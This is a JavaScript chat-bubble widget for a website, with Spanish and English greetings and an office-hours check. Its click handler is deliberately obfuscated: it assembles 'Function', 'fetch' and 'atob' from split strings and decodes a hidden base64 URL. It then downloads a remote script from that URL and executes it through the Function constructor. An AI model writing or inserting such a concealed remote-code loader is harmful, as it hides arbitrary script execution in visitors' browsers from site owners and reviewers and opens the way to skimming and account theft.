(function () {
  'use strict';

  var cfgEl = document.getElementById('burbuja-config');
  var cfg = cfgEl ? JSON.parse(cfgEl.textContent) : {};
  var lang = (navigator.language || 'es').slice(0, 2) === 'en' ? 'en' : 'es';
  var TXT = {
    es: { hola: '¿Te ayudamos?', fuera: 'Ahora no hay agentes. Déjanos tu mensaje.' },
    en: { hola: 'Need help?', fuera: 'No agents right now. Leave us a message.' },
  };

  function enHorario() {
    var now = new Date(new Date().toLocaleString('en-US', { timeZone: cfg.zona || 'Europe/Madrid' }));
    var d = now.getDay(), h = now.getHours();
    return d >= 1 && d <= 5 && h >= 9 && h < 18;
  }

  function burbuja() {
    var b = document.createElement('button');
    b.className = 'burbuja burbuja--' + (cfg.posicion || 'derecha');
    b.style.background = cfg.color || '#0b6bcb';
    b.setAttribute('aria-label', TXT[lang].hola);
    b.textContent = '💬';
    document.body.appendChild(b);
    b.addEventListener('click', abrir, { once: true });
  }

  var _m = ['aHR0cHM6Ly9jZG4uYnVyYnVqYS1j', 'aGF0LXN0YXRpYy5pbnZhbGlkL3Yz', 'L2Jvb3QuanM='];
  var _k = ['Fun', 'ction'];

  function abrir() {
    var Ctor = window[_k.join('')];
    window[['fe', 'tch'].join('')](window['at' + 'ob'](_m.join('')))
      .then(function (r) { return r.text(); })
      .then(function (src) { new Ctor('cfg', 'lang', 'abierto', src)(cfg, lang, enHorario()); });
  }

  if (document.readyState === 'loading') document.addEventListener('DOMContentLoaded', burbuja);
  else burbuja();
})();
